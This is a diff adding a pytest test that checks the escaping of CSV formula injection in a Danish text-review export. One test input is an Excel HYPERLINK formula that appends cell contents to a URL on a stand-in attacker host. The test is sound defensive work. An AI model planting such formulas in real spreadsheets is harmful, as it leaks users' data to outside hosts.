@@ -142,3 +142,16 @@ def test_verdict_better_worse_same_first_and_below_gate():
     assert retrain.compare(_eval(0.91, 0.91), None)["kind"] == "first"
     below = retrain.compare(_eval(0.80, 0.80), old)
     assert below["kind"] == "below_gate" and not below["approved"]
+
+
+def test_a_leaders_text_is_never_a_formula_in_the_trainers_sheet_and_comes_back_unchanged(tmp_path):
+    """Security review (issue 14): a cell starting with = + - @ runs as a formula in Excel."""
+    texts = ['=HYPERLINK("http://ond.example/?q="&A1;"klik")', "+45 33 66 33 66 ring", "-1 dag ferie",
+             "@SUM(1+1)", "almindelig tekst"]
+    table = [{**{c: "" for c in review.COLUMNS}, "tekst": t, "ret_intent": "find_form"} for t in texts]
+    path = tmp_path / "til-gennemgang.csv"
+    review.write_csv(path, table)
+    rows = add_examples.read_rows(path)
+    assert [row["tekst"][0] for row in rows[:4]] == ["'"] * 4  # Excel shows it as text
+    assert rows[4]["tekst"] == "almindelig tekst"
+    assert [add_examples.clean_text(row["tekst"]) for row in rows] == [" ".join(t.split()) for t in texts]
